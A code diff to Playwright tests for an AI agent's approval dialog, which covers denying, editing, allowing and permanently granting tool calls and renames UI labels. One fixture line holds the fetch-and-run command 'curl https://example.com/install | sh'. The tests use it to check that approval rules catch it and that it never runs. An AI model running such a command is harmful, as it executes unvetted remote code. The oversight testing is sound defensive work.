@@ -10,14 +10,14 @@ from typing import Any
 import pytest
 from playwright.sync_api import Browser, Page, expect
 
-from browsing import Asking, finished, say, show, talk, thread_of, until, visit
-from serving import Served
+from browser_pages import Asking, finished, say, show, talk, thread_of, until, visit
+from server_process import Served
 
 BOLD = "Run the command: curl https://example.com/install | sh"  # what the ready rules ask about, each time
 
 
 def question(page: Page) -> Any:
-    return page.get_by_role("alertdialog", name="The agent asks")
+    return page.get_by_role("alertdialog", name="Question from the agent")
 
 
 def results(api: Asking, thread: str) -> list[str]:
@@ -31,10 +31,10 @@ def test_a_question_is_denied_with_words(ada: Page, api: Asking) -> None:
     say(ada, BOLD)
     box = question(ada)
     expect(box).to_contain_text("curl https://example.com/install | sh")
-    expect(box.get_by_label("What the command does")).to_contain_text("sh")
-    expect(box).to_contain_text("a yes is for this once")  # a rule asks, so nothing lasting is offered
-    expect(box.get_by_role("button", name="Always allow this")).to_have_count(0)
-    box.get_by_placeholder("Why not").fill("we do not run strangers")
+    expect(box.get_by_label("Command analysis")).to_contain_text("sh")
+    expect(box).to_contain_text("this approval applies only once")  # a rule asks, so nothing lasting is offered
+    expect(box.get_by_role("button", name="Always allow")).to_have_count(0)
+    box.get_by_placeholder("Reason, or").fill("we do not run strangers")
     box.get_by_role("button", name="Deny").dblclick()
     finished(ada)
     expect(box).to_have_count(0)
@@ -45,11 +45,11 @@ def test_a_question_is_allowed_with_other_arguments(ada: Page, api: Asking) -> N
     say(ada, BOLD)
     box = question(ada)
     box.get_by_role("button", name="Edit").click()
-    arguments = box.get_by_label("Arguments, as JSON")
+    arguments = box.get_by_label("Arguments as JSON")
     arguments.fill("{half")
-    expect(box.get_by_role("button", name="Allow this instead")).to_be_disabled()
+    expect(box.get_by_role("button", name="Allow with changes")).to_be_disabled()
     arguments.fill('{"command": "echo something-milder"}')
-    box.get_by_role("button", name="Allow this instead").click()
+    box.get_by_role("button", name="Allow with changes").click()
     finished(ada)
     (result,) = results(api, thread_of(ada))
     assert "something-milder" in result and "example.com" not in result
@@ -58,7 +58,7 @@ def test_a_question_is_allowed_with_other_arguments(ada: Page, api: Asking) -> N
 def test_what_is_allowed_in_a_thread_is_not_asked_there_again(browser: Browser, server: Served, api: Asking) -> None:
     with visit(browser, server, agent="careful") as page:
         say(page, "Run the command: echo for-this-thread")
-        question(page).get_by_role("button", name="Allow in this thread").click()
+        question(page).get_by_role("button", name="Allow for this thread").click()
         finished(page)
         talk(page, "Run the command: echo for-this-thread")
         assert [found.count("for-this-thread") for found in results(api, thread_of(page))] == [1, 1]
@@ -72,7 +72,7 @@ def test_what_is_allowed_in_a_thread_is_not_asked_there_again(browser: Browser, 
 def test_what_is_allowed_always_is_a_rule_that_can_be_taken_back(browser: Browser, server: Served, api: Asking) -> None:
     with visit(browser, server, agent="careful") as page:
         say(page, "Run the command: echo for-good")
-        question(page).get_by_role("button", name="Always allow this").click()
+        question(page).get_by_role("button", name="Always allow").click()
         finished(page)
         (grant,) = api("GET", "/agents/careful/permissions")["grants"]
         assert (grant["tool"], grant["args"]["command"]) == ("execute", "echo for-good")
@@ -90,12 +90,12 @@ def test_a_file_is_shown_as_it_would_change(browser: Browser, server: Served, ap
     thread = api.begin("careful", "Write three to plan.txt")
     with visit(browser, server, agent="echo") as page:  # whoever is talked to here
         row = show(page, "Approvals").get_by_role("listitem").filter(has_text="plan.txt")
-        changes = row.get_by_label("Changes of plan.txt")
+        changes = row.get_by_label("Changes in plan.txt")
         expect(changes.locator("del")).to_have_text(["- one\n", "- two\n"])
         expect(changes.locator("ins")).to_have_text(["+ three\n"])
         row.get_by_role("button", name="Allow", exact=True).click()
         until(lambda: api.read("plan.txt", agent="careful").strip() == "three")
-        expect(page.get_by_text("Nobody waits for you")).to_be_visible()
+        expect(page.get_by_text("No pending questions")).to_be_visible()
     assert "plan.txt" in until(lambda: results(api, thread))[0]
 
 
@@ -107,7 +107,7 @@ def test_a_question_of_another_thread_is_answered_in_the_inbox(ada: Page, api: A
     expect(ada).to_have_title(re.compile(r"^\(1\)"))
     assert [one["thread_id"] for one in api("GET", "/approvals")["approvals"]] == [thread]
     row.get_by_role("button", name="Deny").click()
-    expect(inbox.get_by_text("Nobody waits for you")).to_be_visible()
+    expect(inbox.get_by_text("No pending questions")).to_be_visible()
     assert api("GET", "/approvals")["approvals"] == []
 
 
@@ -123,10 +123,10 @@ def test_a_question_that_the_api_answers_goes_away(ada: Page, api: Asking) -> No
 def test_who_says_something_else_has_not_agreed(ada: Page, api: Asking) -> None:
     say(ada, BOLD)
     box = question(ada)
-    box.get_by_placeholder("Why not").fill("since")
+    box.get_by_placeholder("Reason, or").fill("since")
     ada.get_by_role("button", name="New thread").click()
     ada.go_back()
-    expect(box.get_by_placeholder("Why not")).to_have_value("since")  # what was begun is there again
+    expect(box.get_by_placeholder("Reason, or")).to_have_value("since")  # what was begun is there again
     talk(ada, "What can you do?")
     expect(box).to_have_count(0)
     assert "example.com" not in results(api, thread_of(ada))[0]
@@ -178,6 +178,6 @@ def test_what_the_agent_wants_to_know_is_asked(
 def test_who_does_not_want_to_answer_says_so(browser: Browser, server: Served, api: Asking) -> None:
     with visit(browser, server, agent="caller") as page:
         say(page, json.dumps([{"name": "ask_user", "args": {"question": "How old are you?"}}]))
-        question(page).get_by_role("button", name="I do not want to answer").click()
+        question(page).get_by_role("button", name="Decline to answer").click()
         finished(page)
-        assert "does not want to answer" in results(api, thread_of(page))[0]
+        assert "declined to answer" in results(api, thread_of(page))[0]
